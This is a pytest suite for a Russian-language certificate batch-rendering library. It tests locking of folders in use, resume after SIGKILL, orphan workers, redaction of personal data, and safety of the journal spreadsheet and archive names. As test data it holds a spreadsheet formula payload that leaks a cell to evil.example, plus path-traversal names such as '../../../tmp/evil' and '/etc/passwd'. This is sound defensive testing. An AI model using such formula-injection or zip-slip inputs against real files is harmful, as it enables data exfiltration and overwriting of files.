"""Batches that cannot hurt each other: a second run into a folder in use, runs started
together, kills at random moments followed by ``--resume``, orphan workers, and the
personal data of failed records."""

from __future__ import annotations

import csv
import io
import os
import random
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hostile_harness import ROOT, hostile_settings
from hypothesis import given
from hypothesis import strategies as st

from nastavnik_docs._files import TEMP_PREFIX
from nastavnik_docs._resources import sample_path
from nastavnik_docs.batch import Numbering, records_from_source, render_batch
from nastavnik_docs.batch._lock import LOCK_NAME
from nastavnik_docs.errors import OutputError

COMMON = sample_path("awards/common.yaml")
REGISTRY = sample_path("registry.yaml")
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}

SCRIPT = """
import pathlib, sys, time
from nastavnik_docs.batch import records_from_source, render_batch
records = records_from_source("award.certificate", {registry!r}, common={common!r})
records = [dict(r, recipient=dict(r["recipient"], last_name=r["recipient"]["last_name"] + f"-{{i}}"))
           for i in range({copies}) for r in records]
go = {go!r}
if go:  # start together with the other run
    pathlib.Path(go + "." + str(__import__("os").getpid())).touch()
    while not pathlib.Path(go).exists():
        time.sleep(0.001)
report = render_batch("award.certificate", records, {out!r}, jobs={jobs}, resume={resume})
print(len(report.written), len(report.skipped))
"""

HOLD = """
import pathlib, sys, time
from nastavnik_docs.batch._lock import folder_lock
folder = pathlib.Path(sys.argv[1])
folder.mkdir(parents=True, exist_ok=True)
with folder_lock(folder):
    (folder / sys.argv[2]).write_bytes(b"in progress")
    print("holding", flush=True)
    time.sleep(float(sys.argv[3]))
"""


def _start(out: Path, *, copies: int = 10, jobs: int = 1, resume: bool = False,
           go: str = "") -> subprocess.Popen[str]:
    code = SCRIPT.format(registry=str(REGISTRY), common=str(COMMON), out=str(out), copies=copies, jobs=jobs,
                         resume=resume, go=go)
    return subprocess.Popen([sys.executable, "-c", code], env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)


def _documents(out: Path) -> list[Path]:
    return sorted(p for p in out.iterdir() if p.suffix == ".docx" and not p.name.startswith(TEMP_PREFIX))


def _wait_for(out: Path, count: int, proc: subprocess.Popen[str], seconds: float = 120) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if out.is_dir() and len(_documents(out)) >= count:
            return
        if proc.poll() is not None:
            pytest.fail(f"the batch ended too early: {proc.stderr.read() if proc.stderr else ''}")
        time.sleep(0.02)
    pytest.fail("the batch did not start writing")


def _records(copies: int) -> int:
    return copies * len(records_from_source("award.certificate", REGISTRY, common=COMMON))


@pytest.mark.hostile("batches")
def test_a_second_run_into_a_folder_in_use_is_refused_and_touches_nothing(tmp_path, tally):
    """A running batch holds the folder's lock and has a document half-written; another
    run — even one asked to resume, which removes stray temporary files — is refused and
    removes nothing (it used to delete the running batch's file, and a document was lost)."""
    out = tmp_path / "out"
    records = records_from_source("award.certificate", REGISTRY, common=COMMON)
    render_batch("award.certificate", records[:2], out)
    half = f"{TEMP_PREFIX}4242-{sorted(p.name for p in out.iterdir())[0]}"
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(out), half, "30"], env=ENV,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "holding"
        before = sorted(p.name for p in out.iterdir())
        with pytest.raises(OutputError, match="уже идёт другой выпуск"):
            render_batch("award.certificate", records, out, resume=True)
        assert sorted(p.name for p in out.iterdir()) == before  # nothing removed, nothing added
    finally:
        holder.kill()
        holder.wait()
    again = render_batch("award.certificate", records, out, resume=True)  # the holder is gone: free again
    assert len(again.written) == len(records) - 2 and not (out / half).exists()
    assert not (out / LOCK_NAME).exists()
    tally.add("batches", "второй запуск отклонён, ничего не тронуто")


@pytest.mark.hostile("batches")
def test_two_runs_started_together_give_one_full_set_and_one_refusal(tmp_path, tally):
    out = tmp_path / "out"
    go = str(tmp_path / "go")
    runs = [_start(out, copies=20, go=go), _start(out, copies=20, go=go)]
    deadline = time.monotonic() + 120
    while len(list(tmp_path.glob("go.*"))) < 2 and time.monotonic() < deadline:
        time.sleep(0.01)
    Path(go).touch()  # both are ready: start them at the same moment
    codes = [run.wait(300) for run in runs]
    errors = [run.stderr.read() if run.stderr else "" for run in runs]
    assert sorted(codes) == [0, 1], errors
    assert "уже идёт другой выпуск" in errors[codes.index(1)]
    assert len(_documents(out)) == _records(20)
    assert not [p for p in out.iterdir() if p.name.startswith(TEMP_PREFIX)]
    tally.add("batches", "один набор, второй запуск отклонён")


@pytest.mark.hostile("batches")
def test_resume_removes_only_the_temporary_files_of_its_own_batch(tmp_path, tally):
    records = records_from_source("award.certificate", REGISTRY, common=COMMON)[:3]
    out = tmp_path / "out"
    first = render_batch("award.certificate", records, out)
    target = first.written[0]
    target.unlink()
    own = out / f"{TEMP_PREFIX}99999-{target.name}"
    foreign = [out / f"{TEMP_PREFIX}12345-Чужой_документ.docx", out / f"{TEMP_PREFIX}abcdef.docx"]
    for path in (own, *foreign):
        path.write_bytes(b"left by a killed run")
    again = render_batch("award.certificate", records, out, resume=True)
    assert len(again.written) == 1 and len(again.skipped) == 2
    assert not own.exists() and all(p.exists() for p in foreign)
    tally.add("batches", "убраны только свои временные файлы")


@pytest.mark.slow
@pytest.mark.hostile("batches")
def test_six_kills_then_resume_give_exactly_the_full_set_byte_identical(tmp_path, tally):
    copies = 300
    reference = tmp_path / "reference"
    assert _start(reference, copies=copies).wait(600) == 0
    expected = {p.name: p.read_bytes() for p in _documents(reference)}
    out = tmp_path / "out"
    chance = random.Random(17)
    for _kill in range(6):
        proc = _start(out, copies=copies, resume=True)
        done = len(_documents(out)) if out.is_dir() else 0
        # killed within the first fifth of what is left: a batch writes thousands of
        # documents a second, in blocks, and must still be running when the signal comes
        _wait_for(out, done + chance.randint(1, max(1, (len(expected) - done) // 5)), proc)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        assert len(_documents(out)) < len(expected), "the run must be killed part-way"
        tally.add("batches", "прерван SIGKILL")
    assert _start(out, copies=copies, resume=True).wait(600) == 0
    files = sorted(out.iterdir())
    assert [p.name for p in files] == sorted(expected)  # no temporary file, no lock, no duplicate
    assert all(p.read_bytes() == expected[p.name] for p in files)
    tally.add("batches", "продолжен: полный набор, байт в байт")


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.hostile("batches")
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_workers_die_with_a_killed_parent(tmp_path, tally):
    out = tmp_path / "out"
    proc = _start(out, copies=60, jobs=2)
    _wait_for(out, 10, proc)
    workers = _children(proc.pid)
    assert len(workers) >= 2, workers
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and any(_alive(w) for w in workers):
        time.sleep(0.05)
    assert not any(_alive(w) for w in workers), "orphan workers are still alive"
    tally.add("batches", "рабочие процессы завершились с родителем")


# --- personal data ------------------------------------------------------------------------

_PHONES = st.from_regex(r"\+7 9\d\d \d{3}-\d\d-\d\d", fullmatch=True)
_EMAILS = st.from_regex(r"[a-z]{3,8}\.[a-z]{3,8}@school[0-9]{1,3}\.example", fullmatch=True)
_STREETS = st.sampled_from(["Ленинградская", "Козленская", "Пушкинская", "Набережная"])


@pytest.fixture(scope="module")
def certificate_record() -> dict:
    return records_from_source("award.certificate", REGISTRY, common=COMMON)[0]


@pytest.mark.hostile("privacy")
@hostile_settings(25)
@given(phone=_PHONES, email=_EMAILS, street=_STREETS, house=st.integers(1, 200),
       born=st.dates().map(lambda d: f"{d:%d.%m.%Y}"), redact=st.booleans())
def test_failed_records_never_show_personal_data(tmp_path_factory, certificate_record, phone, email, street, house,
                                                 born, redact, tally):
    address = f"г. Вологда, ул. {street}, д. {house}"
    bad = dict(certificate_record, recipient=dict(certificate_record["recipient"], phone=phone, email=email,
                                                  address=address, birth_date=f"{born} (тел. {phone})"))
    out = tmp_path_factory.mktemp("privacy")
    report = render_batch("award.certificate", [certificate_record, bad], out, redact=redact)
    assert [f.row for f in report.failed] == [2]
    with open(report.error_report, encoding="utf-8-sig", newline="") as fh:  # type: ignore[arg-type]
        saved = fh.read()
    shown = report.summary() + saved + str(report.failed)
    for secret in (phone, email, address, born, street):
        assert secret not in shown, (secret, shown)
    surname = bad["recipient"]["last_name"]
    assert (surname not in shown) if redact else (surname in shown)  # the row alone in --redact
    rows = list(csv.reader(saved.splitlines(), delimiter=";"))
    assert rows[1][0] == "2" and (rows[1][1] == "") == redact
    tally.add("privacy", "скрыты (--redact: только номер)" if redact else "скрыты")


@pytest.mark.hostile("batches")
def test_a_folder_in_use_refuses_numbered_and_pdf_runs_too(tmp_path, tally):
    """The journal, the PDF copies and the archive of a folder batch are made inside the
    lock: a run with numbers or PDF into a folder in use is refused and writes nothing."""
    out = tmp_path / "out"
    records = records_from_source("award.certificate", REGISTRY, common=COMMON)
    render_batch("award.certificate", records[:1], out)
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(out), f"{TEMP_PREFIX}4242-x.docx", "30"], env=ENV,
                              stdout=subprocess.PIPE, text=True)
    extras: list[dict] = [{"numbering": Numbering("С-", 1, 3)}, {"numbering": Numbering("С-", 1, 3), "overwrite": True}]
    if shutil.which("soffice"):
        extras.append({"pdf": True})
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "holding"
        before = sorted(p.name for p in out.iterdir())
        for extra in extras:
            with pytest.raises(OutputError, match="уже идёт другой выпуск"):
                render_batch("award.certificate", records, out, **extra)
            assert sorted(p.name for p in out.iterdir()) == before, extra
            tally.add("batches", "второй запуск отклонён, ничего не тронуто")
    finally:
        holder.kill()
        holder.wait()


@pytest.mark.hostile("formulas")
def test_the_journal_sheet_keeps_formula_like_names_as_text(tmp_path, tally):
    records = records_from_source("award.certificate", REGISTRY, common=COMMON)[:3]
    payloads = ['=HYPERLINK("http://evil.example/?leak="&C3,"…")', "+79001234567", "@SUM(1,1)"]
    hostile = [dict(r, recipient=dict(r["recipient"], last_name=p)) for r, p in zip(records, payloads, strict=True)]
    report = render_batch("award.certificate", hostile, tmp_path / "out", numbering=Numbering("=1+", 1, 1))
    assert not report.failed and report.journal is not None
    cells = [c for row in openpyxl.load_workbook(report.journal).active.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value.split()[0] for c in risky} >= {"=1+1", "=1+2", "=1+3", "+79001234567", "@SUM(1,1)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    tally.add("formulas", "журнал: текст, не формула")


@pytest.mark.hostile("batches")
@hostile_settings(30)
@given(name=st.sampled_from(["../../../tmp/evil", "/etc/passwd", "..\\..\\win", "C:\\Windows\\x", "CON", "a/../../b",
                             "..", "\x00nul", " .hidden"]) | st.text(min_size=1, max_size=30))
def test_a_batch_archive_never_holds_a_path_outside_itself(certificate_record, name, tally):
    """A name from the data becomes one file name at the top of the archive (--zip):
    never a folder, a path upwards or an absolute path (a «zip slip» on unpacking)."""
    records = [dict(certificate_record, recipient=dict(certificate_record["recipient"], last_name=name))]
    buffer = io.BytesIO()
    render_batch("award.certificate", records, buffer)
    for entry in zipfile.ZipFile(io.BytesIO(buffer.getvalue())).namelist():
        assert "/" not in entry and "\\" not in entry and "\x00" not in entry, entry
        assert entry not in (".", "..") and not entry.startswith("."), entry
    tally.add("batches", "имя в архиве — без пути")
